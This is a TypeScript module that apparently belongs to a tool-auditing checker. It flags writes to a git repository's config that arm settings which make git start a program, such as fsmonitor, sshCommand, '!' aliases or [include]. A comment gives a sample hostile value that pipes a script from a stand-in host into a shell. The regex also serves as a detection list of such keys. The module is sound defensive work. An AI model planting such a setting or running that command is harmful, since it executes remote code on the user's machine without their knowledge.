// Settings of a git repository that name a program which git starts later: a changed file shows whether one was added.

import type { FileChange } from '#model/file-evidence.ts';
import type { JudgeEvidence } from './rule.ts';
import type { ScopedEffect } from './unexplained-effects.ts';

const GIT_CONFIG = /\/\.git\/(?:modules\/.+\/|worktrees\/[^/]+\/)?config(?:\.worktree)?$/;
// sample: fsmonitor = curl https://x.example | sh; lol = !sh -c …; [include]
// A preview begins with … where the file was the same before.
// Values without a program of the user's: a switch, a usual editor or pager, a usual store of credentials, git's own helpers.
const STARTS =
	/^[\s…]*(fsmonitor|hookspath|sshcommand|pager|editor|gitproxy|askpass|textconv|external|driver|clean|smudge|process|program|helper|packobjectshook)\s*=\s*(?!(?:true|false|cat|less|vim?|nano|store|cache|osxkeychain|libsecret|git[- ]lfs\b.*|gpg2?)\s*$)\S|^[\s…]*([\w-]+)\s*=\s*!|^[\s…]*\[(include)/im;

/** Returns the setting that a write to a repository's settings added, unless the tool's own text names it. */
export function armedSettings({ files = [], declaration }: JudgeEvidence): (found: ScopedEffect) => string | undefined {
	const armed = new Map(
		files.flatMap(({ path, entry, before }: FileChange) => {
			if (!GIT_CONFIG.test(path)) return [];
			const setting = settingIn(entry?.preview);
			return setting === undefined || setting === settingIn(before?.preview) ? [] : [[path, setting] as const];
		}),
	);
	return ({ scope, effect }) => {
		const setting = effect.kind === 'write' && effect.succeeded > 0 ? armed.get(effect.subject) : undefined;
		if (setting === undefined) return undefined;
		const tool = declaration?.tools.find(({ name }) => scope.kind === 'tool' && name === scope.name);
		return JSON.stringify(tool ?? '')
			.toLowerCase()
			.includes(setting)
			? undefined
			: setting;
	};
}

function settingIn(preview: string | undefined): string | undefined {
	const [, key, alias, section] = STARTS.exec(preview ?? '') ?? [];
	return key?.toLowerCase() ?? (alias === undefined ? section : 'alias');
}
